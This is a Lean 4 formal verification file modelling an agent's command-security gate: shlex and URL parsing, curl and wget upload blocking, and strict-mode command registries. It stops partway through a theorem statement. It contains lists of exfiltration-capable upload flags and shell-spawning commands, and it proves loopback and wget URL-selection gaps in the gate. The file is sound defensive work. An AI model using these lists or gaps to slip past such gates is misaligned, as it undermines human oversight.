import Mathlib

/-!
Verification development for the command-security gate of the repository:
the network validators (validate_curl_command, validate_wget_command in
apps/backend/security/network_validators.py), the command registry
(apps/backend/project/command_registry/base.py) and the validator registry
(apps/backend/security/validator_registry.py).

The Python code is shallowly embedded: strings are Lean Strings, token
lists are List String, the environment is a function String to Option
String, and the tuple ValidationResult is Bool times String.  Helper
functions model the exact pieces of the Python standard library the code
uses (shlex.split in POSIX mode, urllib.parse hostname extraction, str
methods).  All definitions are structural recursions so that every
validator evaluates by kernel reduction.
-/

namespace AutoClaude

/-- The apostrophe character, written by code point so the source file
stays free of quote-literal noise. -/
def sqChar : Char := Char.ofNat 39

/-- The apostrophe as a one-character string; used to rebuild the exact
reason strings of the Python f-strings. -/
def sq : String := String.singleton sqChar

/-- Model of Python str.startswith for a single candidate: the candidate
is a character-list prefix of the string. -/
def pyStartsWith (s p : String) : Bool := p.data.isPrefixOf s.data

/-- Model of Python str.lower.  Char.toLower lowercases exactly the ASCII
range; every comparison in the source compares against pure-ASCII
constants, and no Unicode code point outside A-Z lowercases (under
Python str.lower) onto a string equal to any of those constants, so the
ASCII mapping is extensionally faithful for all uses below. -/
def pyLower (s : String) : String := String.mk (s.data.map Char.toLower)

/-- Model of Python str.upper, with the same ASCII caveat as pyLower:
whenever this function produces one of the all-ASCII constants POST, PUT,
PATCH compared against below, the input was ASCII and Python agrees. -/
def pyUpper (s : String) : String := String.mk (s.data.map Char.toUpper)

/-- Model of Python token.split(Chr(61), 1)[1]: everything after the first
equals sign.  Only ever applied to tokens that contain an equals sign. -/
def afterFirstEq (s : String) : String :=
  String.mk ((s.data.dropWhile (fun c => c ≠ '=')).drop 1)

/-! ## shlex.split (POSIX mode)

Model of Python shlex.split with posix=True, the tokenizer used at the
top of both validators.  Whitespace is the shlex default set; a single
quote quotes everything up to the next single quote; a double quote
quotes up to the next double quote, inside which a backslash escapes only
a double quote or a backslash and is otherwise kept literally; outside
quotes a backslash escapes the next character.  An unterminated quote or
a trailing backslash raises ValueError in Python; that is modelled as
none.  A quoted empty string yields an empty token, tracked by the
scan/tok mode distinction. -/

/-- Lexer mode: between tokens, inside a token, inside single quotes,
inside double quotes. -/
inductive LexMode
  | scan
  | tok
  | single
  | double
deriving DecidableEq

/-- Whitespace characters of shlex (space, tab, carriage return, newline). -/
def isShWs (c : Char) : Bool := c = ' ' || c = '\t' || c = '\r' || c = '\n'

/-- Core shlex state machine.  acc is the current token reversed, out the
emitted tokens reversed. -/
def shlexCore : LexMode → List Char → List Char → List String → Option (List String)
  | .scan, [], _, out => some out.reverse
  | .scan, c :: r, _, out =>
    if isShWs c then shlexCore .scan r [] out
    else if c = sqChar then shlexCore .single r [] out
    else if c = '"' then shlexCore .double r [] out
    else if c = '\\' then
      match r with
      | [] => none
      | d :: r2 => shlexCore .tok r2 [d] out
    else shlexCore .tok r [c] out
  | .tok, [], acc, out => some ((String.mk acc.reverse :: out)).reverse
  | .tok, c :: r, acc, out =>
    if isShWs c then shlexCore .scan r [] (String.mk acc.reverse :: out)
    else if c = sqChar then shlexCore .single r acc out
    else if c = '"' then shlexCore .double r acc out
    else if c = '\\' then
      match r with
      | [] => none
      | d :: r2 => shlexCore .tok r2 (d :: acc) out
    else shlexCore .tok r (c :: acc) out
  | .single, [], _, _ => none
  | .single, c :: r, acc, out =>
    if c = sqChar then shlexCore .tok r acc out
    else shlexCore .single r (c :: acc) out
  | .double, [], _, _ => none
  | .double, c :: r, acc, out =>
    if c = '"' then shlexCore .tok r acc out
    else if c = '\\' then
      match r with
      | [] => none
      | d :: r2 =>
        if d = '"' || d = '\\' then shlexCore .double r2 (d :: acc) out
        else shlexCore .double r2 (d :: '\\' :: acc) out
    else shlexCore .double r (c :: acc) out

/-- Model of shlex.split(command_string): some tokens on success, none
when Python raises ValueError. -/
def shlexSplit (s : String) : Option (List String) :=
  shlexCore .scan s.data [] []

/-! ## urllib.parse hostname

Model of urlparse(url).hostname as used by the is-localhost check.  The
source only ever passes strings beginning with a scheme, but the model
follows urlsplit generally: strip a valid scheme, take the netloc after a
double slash up to the first slash, question mark or hash, fail (like the
Invalid-IPv6-URL ValueError) on unbalanced square brackets, drop the
userinfo up to the last at-sign, then take the bracketed host or the part
before the first colon.  An empty hostname maps to none, matching the
Python property returning None; the caller treats none and the ValueError
case identically (both yield False), as the source does.  The
bracketed-host content validation added in Python 3.11 is not modelled;
no claim depends on it. -/

/-- Characters allowed in a URL scheme (letters, digits, plus, minus,
dot), per urllib.parse. -/
def schemeChar (c : Char) : Bool := c.isAlpha || c.isDigit || c = '+' || c = '-' || c = '.'

/-- Strip a leading valid scheme and its colon, per urlsplit: the part
before the first colon must be nonempty, start with an ASCII letter, and
consist of scheme characters. -/
def pyDropScheme (u : List Char) : List Char :=
  let pre := u.takeWhile (fun c => c ≠ ':')
  match u.dropWhile (fun c => c ≠ ':') with
  | [] => u
  | _ :: r =>
    if (pre.headD ' ').isAlpha && pre.all schemeChar && !pre.isEmpty then r else u

/-- The netloc of the remainder after the scheme: present only after a
double slash, running to the first slash, question mark or hash; none
models the ValueError on unbalanced brackets. -/
def pyNetloc (afterScheme : List Char) : Option (List Char) :=
  match afterScheme with
  | '/' :: '/' :: r =>
    let n := r.takeWhile (fun c => c ≠ '/' && c ≠ '?' && c ≠ '#')
    if (n.contains '[') != (n.contains ']') then none else some n
  | _ => some []

/-- Hostname within a netloc: drop userinfo up to the last at-sign, then
the bracketed host if a bracket is present, else the part before the
first colon; empty maps to none. -/
def pyHostOfNetloc (n : List Char) : Option String :=
  let hostinfo := (n.reverse.takeWhile (fun c => c ≠ '@')).reverse
  let host :=
    if hostinfo.contains '[' then
      ((hostinfo.dropWhile (fun c => c ≠ '[')).drop 1).takeWhile (fun c => c ≠ ']')
    else hostinfo.takeWhile (fun c => c ≠ ':')
  if host.isEmpty then none else some (String.mk host)

/-- urlparse(url).hostname, with none covering both the absent-hostname
and the ValueError cases (the caller maps both to False). -/
def urlHostname (url : String) : Option String :=
  match pyNetloc (pyDropScheme url.data) with
  | none => none
  | some n => pyHostOfNetloc n

/-! ## network_validators.py -/

/-- ALLOWED_HOSTS: loopback aliases granted unrestricted access. -/
def ALLOWED_HOSTS : List String := ["localhost", "127.0.0.1", "::1", "0.0.0.0"]

/-- _is_localhost: parse the hostname and compare its lowercase form
against the loopback aliases; any parse failure yields false. -/
def isLocalhostUrl (url : String) : Bool :=
  match urlHostname url with
  | some h => ALLOWED_HOSTS.contains (pyLower h)
  | none => false

/-- CURL_UPLOAD_FLAGS: curl flags that indicate data upload.  The Python
set is unordered; at most one flag can match any given token (no flag is
a prefix of another up to the equals sign), so a fixed list order is a
faithful model. -/
def CURL_UPLOAD_FLAGS : List String :=
  ["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii",
   "-F", "--form", "-T", "--upload-file", "--json"]

/-- The curl skip set: flags taking an argument, plus the upload flags
(the source updates the set with CURL_UPLOAD_FLAGS). -/
def curlSkipFlags : List String :=
  ["-o", "--output", "-O",
   "-H", "--header",
   "-A", "--user-agent",
   "-e", "--referer",
   "-u", "--user",
   "-x", "--proxy",
   "-b", "--cookie",
   "-c", "--cookie-jar",
   "--connect-timeout", "--max-time",
   "-w", "--write-out",
   "--retry", "--retry-delay"] ++ CURL_UPLOAD_FLAGS

/-- WGET_UPLOAD_FLAGS: wget flags that indicate upload. -/
def WGET_UPLOAD_FLAGS : List String :=
  ["--post-data", "--post-file", "--body-data", "--body-file", "--method"]

/-- The wget skip set: flags taking an argument, plus the upload flags. -/
def wgetSkipFlags : List String :=
  ["-O", "--output-document",
   "-o", "--output-file",
   "-a", "--append-output",
   "--header",
   "--user-agent", "-U",
   "--referer",
   "--user", "--password",
   "--proxy-user", "--proxy-password",
   "-e", "--execute",
   "-t", "--tries",
   "-T", "--timeout",
   "-w", "--wait",
   "--limit-rate",
   "-P", "--directory-prefix"] ++ WGET_UPLOAD_FLAGS

/-- The inner for-loop over upload flags: the flag matching the token
exactly or as a flag=value prefix, if any.  At most one flag of either
list can match a token, so the list order is immaterial. -/
def findUploadFlag (flags : List String) (token : String) : Option String :=
  flags.find? (fun f => token = f || pyStartsWith token (f ++ "="))

/-- Whether a token starts with one of the recognized URI schemes. -/
def startsScheme (t : String) : Bool :=
  pyStartsWith t "http://" || pyStartsWith t "https://" || pyStartsWith t "ftp://"

/-- _extract_url_from_tokens inner loop: walk the tokens with a skip-next
bit; a dash token matching a skip flag without an equals sign consumes
the following token; the first remaining token with a scheme is the URL;
a bare token with a dot or equal to a loopback alias becomes the URL with
http prepended. -/
def extractUrlGo (skipFlags : List String) : List String → Bool → Option String
  | [], _ => none
  | t :: rest, skipNext =>
    if skipNext then extractUrlGo skipFlags rest false
    else if pyStartsWith t "-" then
      extractUrlGo skipFlags rest
        ((skipFlags.any (fun f => t = f || pyStartsWith t (f ++ "="))) && !(t.data.contains '='))
    else if startsScheme t then some t
    else if t.data.contains '.' || ALLOWED_HOSTS.contains t then some ("http://" ++ t)
    else extractUrlGo skipFlags rest false

/-- _extract_url_from_tokens: scan tokens after the command name. -/
def extractUrlFromTokens (tokens : List String) (skipFlags : List String) : Option String :=
  extractUrlGo skipFlags (tokens.drop 1) false

/-- The mutable locals of the validator scan loops. -/
structure ScanState where
  hasUploadData : Bool
  uploadFlagFound : Option String
  explicitMethod : Option String
deriving DecidableEq, Repr

/-- The curl while-loop, expressed on the token suffix from index one.
Per iteration: record an upload flag match; on -X or --request with a
following token record the uppercased method and consume that token; a
dash token equal to a skip flag consumes one further token.  An index
moved past the end simply ends the loop, so the empty-suffix cases return
the state. -/
def curlScanGo : List String → ScanState → ScanState
  | [], st => st
  | token :: rest, st =>
    let st1 := match findUploadFlag CURL_UPLOAD_FLAGS token with
      | some f => { st with hasUploadData := true, uploadFlagFound := some f }
      | none => st
    if token = "-X" || token = "--request" then
      match rest with
      | [] => st1
      | m :: r2 =>
        let st2 := { st1 with explicitMethod := some (pyUpper m) }
        if pyStartsWith token "-" && curlSkipFlags.contains token then
          match r2 with
          | [] => st2
          | _ :: r3 => curlScanGo r3 st2
        else curlScanGo r2 st2
    else
      if pyStartsWith token "-" && curlSkipFlags.contains token then
        match rest with
        | [] => st1
        | _ :: r2 => curlScanGo r2 st1
      else curlScanGo rest st1

/-- The curl scan starting after the command name with all-clear state. -/
def curlScan (tokens : List String) : ScanState :=
  curlScanGo (tokens.drop 1) ⟨false, none, none⟩

/-- The blocked-upload reason of validate_curl_command with a triggering
flag, exactly as the f-string builds it. -/
def curlUploadReason (flag : String) : String :=
  "curl with " ++ sq ++ flag ++ sq ++
    " blocked in strict mode (potential data exfiltration). " ++
    "Only GET requests allowed to external hosts. " ++
    "Localhost requests are unrestricted."

/-- The blocked-method reason of validate_curl_command. -/
def curlMethodReason (method : String) : String :=
  "curl " ++ method ++
    " blocked in strict mode (potential data exfiltration). " ++
    "Only GET requests allowed to external hosts. " ++
    "Localhost requests are unrestricted."

/-- validate_curl_command: tokenize, check the command name, scan for
upload and method signals, extract the URL, allow loopback outright,
block uploads to external or unknown destinations, allow the rest.
The Python truthiness test on the URL coincides with option presence
because every produced URL is nonempty. -/
def validate_curl_command (cmd : String) : Bool × String :=
  match shlexSplit cmd with
  | none => (false, "Could not parse curl command")
  | some tokens =>
    if tokens.head? ≠ some "curl" then (false, "Not a curl command")
    else
      let st := curlScan tokens
      let url := extractUrlFromTokens tokens curlSkipFlags
      if (match url with | some u => isLocalhostUrl u | none => false) then (true, "")
      else
        let isUpload := st.hasUploadData ||
          (match st.explicitMethod with
           | some m => ["POST", "PUT", "PATCH"].contains m
           | none => false)
        if isUpload then
          match st.uploadFlagFound with
          | some f => (false, curlUploadReason f)
          | none => (false, curlMethodReason (st.explicitMethod.getD "None"))
        else (true, "")

/-- The wget while-loop on the token suffix: record upload-flag matches;
on an exact --method token record the uppercased following token and
consume it; on a --method= token record the uppercased value after the
equals sign; a dash token equal to a skip flag consumes one further token
(for an exact --method both consumptions apply, matching the source). -/
def wgetScanGo : List String → ScanState → ScanState
  | [], st => st
  | token :: rest, st =>
    let st1 := match findUploadFlag WGET_UPLOAD_FLAGS token with
      | some f => { st with hasUploadData := true, uploadFlagFound := some f }
      | none => st
    if token = "--method" then
      match rest with
      | [] => st1
      | m :: r2 =>
        let st2 := { st1 with explicitMethod := some (pyUpper m) }
        if pyStartsWith token "-" && wgetSkipFlags.contains token then
          match r2 with
          | [] => st2
          | _ :: r3 => wgetScanGo r3 st2
        else wgetScanGo r2 st2
    else
      let st2 := if pyStartsWith token "--method=" then
          { st1 with explicitMethod := some (pyUpper (afterFirstEq token)) }
        else st1
      if pyStartsWith token "-" && wgetSkipFlags.contains token then
        match rest with
        | [] => st2
        | _ :: r2 => wgetScanGo r2 st2
      else wgetScanGo rest st2

/-- The wget scan starting after the command name with all-clear state. -/
def wgetScan (tokens : List String) : ScanState :=
  wgetScanGo (tokens.drop 1) ⟨false, none, none⟩

/-- The wget URL loop body: over the reversed tail, the first token that
does not start with a dash and starts with a scheme. -/
def wgetUrlGo : List String → Option String
  | [] => none
  | t :: rest =>
    if !pyStartsWith t "-" then
      if startsScheme t then some t else wgetUrlGo rest
    else wgetUrlGo rest

/-- The URL extraction of validate_wget_command: scan the tokens after
the command name from the end. -/
def wgetExtractUrl (tokens : List String) : Option String :=
  wgetUrlGo (tokens.drop 1).reverse

/-- The blocked-upload reason of validate_wget_command. -/
def wgetUploadReason (flag : String) : String :=
  "wget with " ++ sq ++ flag ++ sq ++
    " blocked in strict mode (potential data exfiltration). " ++
    "Only GET requests allowed to external hosts. " ++
    "Localhost requests are unrestricted."

/-- The blocked-method reason of validate_wget_command. -/
def wgetMethodReason (method : String) : String :=
  "wget --method=" ++ method ++
    " blocked in strict mode (potential data exfiltration). " ++
    "Only GET requests allowed to external hosts. " ++
    "Localhost requests are unrestricted."

/-- validate_wget_command: tokenize, check the command name, scan for
upload and method signals, take the last scheme-bearing token as the
URL, allow loopback outright, block uploads elsewhere, allow the rest. -/
def validate_wget_command (cmd : String) : Bool × String :=
  match shlexSplit cmd with
  | none => (false, "Could not parse wget command")
  | some tokens =>
    if tokens.head? ≠ some "wget" then (false, "Not a wget command")
    else
      let st := wgetScan tokens
      let url := wgetExtractUrl tokens
      if (match url with | some u => isLocalhostUrl u | none => false) then (true, "")
      else
        let isUpload := st.hasUploadData ||
          (match st.explicitMethod with
           | some m => ["POST", "PUT", "PATCH"].contains m
           | none => false)
        if isUpload then
          match st.uploadFlagFound with
          | some f => (false, wgetUploadReason f)
          | none => (false, wgetMethodReason (st.explicitMethod.getD "None"))
        else (true, "")

/-! ## command_registry/base.py -/

/-- SAFE_COMMANDS: commands always allowed regardless of mode. -/
def SAFE_COMMANDS : List String :=
  ["echo", "printf", "cat", "head", "tail", "less", "more", "ls", "pwd", "cd",
   "pushd", "popd", "cp", "mv", "mkdir", "rmdir", "touch", "ln", "find", "fd",
   "grep", "egrep", "fgrep", "rg", "ag", "sort", "uniq", "cut", "tr", "sed",
   "awk", "gawk", "wc", "diff", "cmp", "comm", "tee", "xargs", "read", "file",
   "stat", "tree", "du", "df", "which", "whereis", "type", "command", "date",
   "time", "sleep", "timeout", "watch", "true", "false", "test", "[", "[[",
   "env", "printenv", "export", "unset", "set", "source", ".", "exit",
   "return", "break", "continue",
   "tar", "zip", "unzip", "gzip", "gunzip",
   "ping", "host", "dig",
   "git", "gh",
   "ps", "pgrep", "lsof", "jobs", "kill", "pkill", "killall",
   "rm", "chmod",
   "paste", "join", "split", "fold", "fmt", "nl", "rev", "shuf", "column",
   "expand", "unexpand", "iconv",
   "clear", "reset", "man", "help", "uname", "whoami", "id", "basename",
   "dirname", "realpath", "readlink", "mktemp", "bc", "expr", "let", "seq",
   "yes", "jq", "yq"]

/-- DANGEROUS_COMMANDS: shell-spawning and arbitrary-execution commands,
removed in strict mode. -/
def DANGEROUS_COMMANDS : List String := ["eval", "exec", "sh", "bash", "zsh"]

/-- NETWORK_COMMANDS: allowed in both modes, validated in strict mode. -/
def NETWORK_COMMANDS : List String := ["curl", "wget"]

/-- is_strict_mode: the environment value under the fixed key, defaulted
to the empty string, lowercased, must be one of the three truthy
literals.  The environment is modelled as a function from keys to
optional values. -/
def is_strict_mode (env : String → Option String) : Bool :=
  ["true", "1", "yes"].contains (pyLower ((env "SECURITY_STRICT_MODE").getD ""))

/-- get_base_commands: safe plus network commands in strict mode; all
three tiers in normal mode.  The Python sets are modelled as lists;
only membership matters. -/
def get_base_commands (env : String → Option String) : List String :=
  if is_strict_mode env then SAFE_COMMANDS ++ NETWORK_COMMANDS
  else SAFE_COMMANDS ++ DANGEROUS_COMMANDS ++ NETWORK_COMMANDS

/-- The base validator map of command_registry/base.py, command name to
validator identity. -/
def registryBaseValidatorNames : List (String × String) :=
  [("rm", "validate_rm"), ("chmod", "validate_chmod"), ("pkill", "validate_pkill"),
   ("kill", "validate_kill"), ("killall", "validate_killall")]

/-- The strict-mode additions of command_registry/base.py. -/
def registryStrictValidatorNames : List (String × String) :=
  [("curl", "validate_curl"), ("wget", "validate_wget")]

/-- get_validated_commands: the base map, with the network entries merged
in under strict mode.  The key sets are disjoint, so appending in
insertion order models the Python dict merge exactly. -/
def get_validated_commands (env : String → Option String) : List (String × String) :=
  if is_strict_mode env then registryBaseValidatorNames ++ registryStrictValidatorNames
  else registryBaseValidatorNames

/-! ## security/validator_registry.py

Validator functions are modelled by their identities (their names), the
ValidatorId of the specification; which function object a name denotes
plays no role in any claim. -/

/-- The always-active validator map of validator_registry.py. -/
def securityBaseValidators : List (String × String) :=
  [("pkill", "validate_pkill_command"), ("kill", "validate_kill_command"),
   ("killall", "validate_killall_command"),
   ("chmod", "validate_chmod_command"), ("rm", "validate_rm_command"),
   ("init.sh", "validate_init_script"),
   ("git", "validate_git_commit"),
   ("dropdb", "validate_dropdb_command"), ("dropuser", "validate_dropuser_command"),
   ("psql", "validate_psql_command"),
   ("mysql", "validate_mysql_command"), ("mariadb", "validate_mysql_command"),
   ("mysqladmin", "validate_mysqladmin_command"),
   ("redis-cli", "validate_redis_cli_command"),
   ("mongosh", "validate_mongosh_command"), ("mongo", "validate_mongosh_command")]

/-- The strict-mode validator additions of validator_registry.py. -/
def securityStrictValidators : List (String × String) :=
  [("curl", "validate_curl_command"), ("wget", "validate_wget_command")]

/-- get_validators: base map plus the network validators in strict mode;
key sets disjoint, append models the dict merge. -/
def get_validators (env : String → Option String) : List (String × String) :=
  if is_strict_mode env then securityBaseValidators ++ securityStrictValidators
  else securityBaseValidators

/-- An environment with no configuration present (normal mode). -/
def envNone : String → Option String := fun _ => none

/-- An environment enabling strict mode with the lowercase literal. -/
def envStrict : String → Option String :=
  fun k => if k = "SECURITY_STRICT_MODE" then some "true" else none

/-- An environment enabling strict mode with an uppercase value. -/
def envStrictUpper : String → Option String :=
  fun k => if k = "SECURITY_STRICT_MODE" then some "TRUE" else none

/-- The wget URL-selection rule as the claim states it: scanning from the
end, the last token that starts with a URI scheme and is not immediately
preceded by an argument-consuming flag.  Stated from the claim words for
comparison against the implemented extraction. -/
def claimWgetUrl (tokens : List String) : Option String :=
  ((tokens.zip (tokens.drop 1)).reverse.find?
    (fun p => startsScheme p.2 && !(wgetSkipFlags.contains p.1))).map (fun p => p.2)

/-! ## Loop lemmas -/

/-- The curl scan loop keeps the upload-data bit equal to the presence of
a recorded upload flag: both are set by the same assignment. -/
theorem curlScanGo_upload_aux :
    ∀ (n : Nat) (l : List String) (st : ScanState), l.length ≤ n →
    st.hasUploadData = st.uploadFlagFound.isSome →
    (curlScanGo l st).hasUploadData = (curlScanGo l st).uploadFlagFound.isSome := by
  intro n
  induction n with
  | zero =>
    intro l st hl h
    have hz : l = [] := List.length_eq_zero.mp (Nat.le_zero.mp hl)
    subst hz
    simpa [curlScanGo] using h
  | succ n ih =>
    intro l st hl h
    rcases l with _ | ⟨token, rest⟩
    · simpa [curlScanGo] using h
    rcases rest with _ | ⟨m, r2⟩
    · cases hf : findUploadFlag CURL_UPLOAD_FLAGS token <;>
        simp only [curlScanGo, hf] <;> split_ifs <;> simp [curlScanGo, h]
    cases hf : findUploadFlag CURL_UPLOAD_FLAGS token with
    | none =>
      simp only [curlScanGo, hf]
      simp only [List.length_cons] at hl
      by_cases hx : (decide (token = "-X") || decide (token = "--request")) = true
      · simp only [hx, if_true]
        by_cases hs : (pyStartsWith token "-" && curlSkipFlags.contains token) = true
        · simp only [hs, if_true]
          rcases r2 with _ | ⟨x, r3⟩
          · exact h
          · exact ih r3 _ (by simp only [List.length_cons] at hl; omega) h
        · simp only [Bool.not_eq_true] at hs
          simp only [hs, Bool.false_eq_true, if_false]
          exact ih r2 _ (by omega) h
      · simp only [Bool.not_eq_true] at hx
        simp only [hx, Bool.false_eq_true, if_false]
        by_cases hs : (pyStartsWith token "-" && curlSkipFlags.contains token) = true
        · simp only [hs, if_true]
          exact ih r2 _ (by omega) h
        · simp only [Bool.not_eq_true] at hs
          simp only [hs, Bool.false_eq_true, if_false]
          exact ih (m :: r2) _ (by simp; omega) h
    | some f =>
      simp only [curlScanGo, hf]
      simp only [List.length_cons] at hl
      by_cases hx : (decide (token = "-X") || decide (token = "--request")) = true
      · simp only [hx, if_true]
        by_cases hs : (pyStartsWith token "-" && curlSkipFlags.contains token) = true
        · simp only [hs, if_true]
          rcases r2 with _ | ⟨x, r3⟩
          · rfl
          · exact ih r3 _ (by simp only [List.length_cons] at hl; omega) rfl
        · simp only [Bool.not_eq_true] at hs
          simp only [hs, Bool.false_eq_true, if_false]
          exact ih r2 _ (by omega) rfl
      · simp only [Bool.not_eq_true] at hx
        simp only [hx, Bool.false_eq_true, if_false]
        by_cases hs : (pyStartsWith token "-" && curlSkipFlags.contains token) = true
        · simp only [hs, if_true]
          exact ih r2 _ (by omega) rfl
        · simp only [Bool.not_eq_true] at hs
          simp only [hs, Bool.false_eq_true, if_false]
          exact ih (m :: r2) _ (by simp; omega) rfl

/-- If no token equals the two method flags, the curl scan never touches
the explicit-method field. -/
theorem curlScanGo_method_aux :
    ∀ (n : Nat) (l : List String) (st : ScanState), l.length ≤ n →
    (∀ t ∈ l, t ≠ "-X" ∧ t ≠ "--request") →
    (curlScanGo l st).explicitMethod = st.explicitMethod := by
  intro n
  induction n with
  | zero =>
    intro l st hl _
    have hz : l = [] := List.length_eq_zero.mp (Nat.le_zero.mp hl)
    subst hz
    simp [curlScanGo]
  | succ n ih =>
    intro l st hl hm
    rcases l with _ | ⟨token, rest⟩
    · simp [curlScanGo]
    have hx : (decide (token = "-X") || decide (token = "--request")) = false := by
      have h0 := hm token (List.mem_cons_self _ _)
      simp [h0.1, h0.2]
    rcases rest with _ | ⟨m, r2⟩
    · cases hf : findUploadFlag CURL_UPLOAD_FLAGS token <;>
        simp only [curlScanGo, hf, hx, Bool.false_eq_true, if_false] <;>
        split_ifs <;> simp [curlScanGo]
    · simp only [List.length_cons] at hl
      have hmr2 : ∀ t ∈ r2, t ≠ "-X" ∧ t ≠ "--request" :=
        fun t ht => hm t (List.mem_cons_of_mem _ (List.mem_cons_of_mem _ ht))
      have hmm : ∀ t ∈ m :: r2, t ≠ "-X" ∧ t ≠ "--request" :=
        fun t ht => hm t (List.mem_cons_of_mem _ ht)
      cases hf : findUploadFlag CURL_UPLOAD_FLAGS token <;>
        simp only [curlScanGo, hf, hx, Bool.false_eq_true, if_false] <;>
        split_ifs <;>
        first
        | rw [ih r2 _ (by omega) hmr2]
        | rw [ih (m :: r2) _ (by simp only [List.length_cons]; omega) hmm]

/-- The scan state after a full curl scan has the upload bit exactly when
a triggering flag was recorded. -/
theorem curlScan_upload_eq (tokens : List String) :
    (curlScan tokens).hasUploadData = (curlScan tokens).uploadFlagFound.isSome :=
  curlScanGo_upload_aux (tokens.drop 1).length _ _ le_rfl rfl

/-- A curl scan over tokens none of which is a method flag records no
explicit method. -/
theorem curlScan_method_none (tokens : List String)
    (h : ∀ t ∈ tokens, t ≠ "-X" ∧ t ≠ "--request") :
    (curlScan tokens).explicitMethod = none :=
  curlScanGo_method_aux (tokens.drop 1).length _ _ le_rfl
    (fun t ht => h t (List.mem_of_mem_drop ht))

/-- A token starting with a dash cannot start with a URI scheme. -/
theorem startsScheme_eq_false_of_dash (t : String) (h : pyStartsWith t "-" = true) :
    startsScheme t = false := by
  rcases ht : t.data with _ | ⟨c, cs⟩ <;>
    simp only [pyStartsWith, ht, List.isPrefixOf] at h ⊢
  · cases h
  · have hc : c = '-' := by
      simp only [Bool.and_true, beq_iff_eq] at h
      exact h.symm
    subst hc
    simp [startsScheme, pyStartsWith, ht, List.isPrefixOf]

/-- The wget URL loop is exactly a search for the first scheme-bearing
token: the dash test can never reject a scheme-bearing token. -/
theorem wgetUrlGo_eq_find : ∀ l : List String, wgetUrlGo l = l.find? startsScheme := by
  intro l
  induction l with
  | nil => simp [wgetUrlGo]
  | cons t rest ih =>
    by_cases hd : pyStartsWith t "-" = true
    · have hns := startsScheme_eq_false_of_dash t hd
      simp [wgetUrlGo, hd, hns, List.find?_cons, ih]
    · simp only [Bool.not_eq_true] at hd
      by_cases hsc : startsScheme t = true
      · simp [wgetUrlGo, hd, hsc, List.find?_cons]
      · simp only [Bool.not_eq_true] at hsc
        simp [wgetUrlGo, hd, hsc, List.find?_cons, ih]

/-! ## Claim theorems -/

/-- C2: for every curl or wget command string in which the validator
identifies a target URL whose hostname, compared case-insensitively, is a
loopback alias (localhost, 127.0.0.1, ::1, 0.0.0.0), the validator
returns ok true with empty reason, whatever upload flags or explicit
methods are present: no hypothesis about the scan state is needed. -/
theorem loopback_unrestricted (s : String) (toks : List String) (u h : String)
    (hp : shlexSplit s = some toks)
    (hhost : urlHostname u = some h)
    (hmem : ALLOWED_HOSTS.contains (pyLower h) = true) :
    (toks.head? = some "curl" → extractUrlFromTokens toks curlSkipFlags = some u →
        validate_curl_command s = (true, "")) ∧
    (toks.head? = some "wget" → wgetExtractUrl toks = some u →
        validate_wget_command s = (true, "")) := by
  have hl : isLocalhostUrl u = true := by
    simp only [isLocalhostUrl, hhost]
    exact hmem
  constructor
  · intro hc hu
    simp [validate_curl_command, hp, hc, hu, hl]
  · intro hc hu
    simp [validate_wget_command, hp, hc, hu, hl]

/-- C9: on any command string whose tokenization fails (malformed POSIX
quoting), both validators return ok false with their fixed
could-not-parse reason; being total Lean functions they never raise, and
the result is never ok true. -/
theorem parse_failure_fail_closed (s : String) (h : shlexSplit s = none) :
    validate_curl_command s = (false, "Could not parse curl command") ∧
    validate_wget_command s = (false, "Could not parse wget command") := by
  constructor <;> simp [validate_curl_command, validate_wget_command, h]

/-- C1 (amended): for every curl command string whose scan records an
upload flag (the scan reads tokens left to right and does not examine a
token consumed as the argument of a preceding argument-consuming flag),
when the identified target URL is absent or not loopback, the validator
returns ok false with the reason naming that flag. -/
theorem curl_upload_flag_blocked (s : String) (toks : List String) (f : String)
    (hp : shlexSplit s = some toks)
    (hc : toks.head? = some "curl")
    (hflag : (curlScan toks).uploadFlagFound = some f)
    (hu : ∀ u, extractUrlFromTokens toks curlSkipFlags = some u → isLocalhostUrl u = false) :
    validate_curl_command s = (false, curlUploadReason f) := by
  have hU : (curlScan toks).hasUploadData = true := by
    rw [curlScan_upload_eq, hflag]; rfl
  cases hue : extractUrlFromTokens toks curlSkipFlags with
  | none => simp [validate_curl_command, hp, hc, hue, hU, hflag]
  | some u =>
    have hnl := hu u hue
    simp [validate_curl_command, hp, hc, hue, hnl, hU, hflag]

/-- C3 (amended): only the space-separated method form triggers the
block.  First part: if the scan records an explicit method in POST, PUT,
PATCH (which it does only for a token exactly -X or --request followed by
a further token) and no upload flag, and the identified URL is absent or
not loopback, the validator returns ok false naming the method.  Second
part: when no token equals -X or --request (so in particular when the
method appears only in flag=value form) and no upload flag is recorded,
the command is allowed. -/
theorem curl_explicit_method_blocked :
    (∀ (s : String) (toks : List String) (m : String),
      shlexSplit s = some toks → toks.head? = some "curl" →
      (curlScan toks).uploadFlagFound = none →
      (curlScan toks).explicitMethod = some m →
      ["POST", "PUT", "PATCH"].contains m = true →
      (∀ u, extractUrlFromTokens toks curlSkipFlags = some u → isLocalhostUrl u = false) →
      validate_curl_command s = (false, curlMethodReason m)) ∧
    (∀ (s : String) (toks : List String),
      shlexSplit s = some toks → toks.head? = some "curl" →
      (∀ t ∈ toks, t ≠ "-X" ∧ t ≠ "--request") →
      (curlScan toks).uploadFlagFound = none →
      validate_curl_command s = (true, "")) := by
  constructor
  · intro s toks m hp hc hflag hm hmem hu
    have hU : (curlScan toks).hasUploadData = false := by
      rw [curlScan_upload_eq, hflag]; rfl
    have hmem2 : m = "POST" ∨ m = "PUT" ∨ m = "PATCH" := by simpa using hmem
    cases hue : extractUrlFromTokens toks curlSkipFlags with
    | none =>
      simp [validate_curl_command, hp, hc, hue, hU, hflag, hm]
      tauto
    | some u =>
      have hnl := hu u hue
      simp [validate_curl_command, hp, hc, hue, hnl, hU, hflag, hm]
      tauto
  · intro s toks hp hc hnx hflag
    have hU : (curlScan toks).hasUploadData = false := by
      rw [curlScan_upload_eq, hflag]; rfl
    have hM : (curlScan toks).explicitMethod = none := curlScan_method_none toks hnx
    cases hue : extractUrlFromTokens toks curlSkipFlags with
    | none => simp [validate_curl_command, hp, hc, hue, hU, hflag, hM]
    | some u =>
      by_cases hloc : isLocalhostUrl u = true
      · simp [validate_curl_command, hp, hc, hue, hloc]
      · simp only [Bool.not_eq_true] at hloc
        simp [validate_curl_command, hp, hc, hue, hloc, hU, hflag, hM]

/-- C4 (amended): the target URL used by the wget validator for the
loopback decision is simply the last token starting with a URI scheme
(http://, https://, ftp://), scanning from the end; tokens that are
arguments of argument-consuming flags are not excluded. -/
theorem wget_url_last_scheme_token :
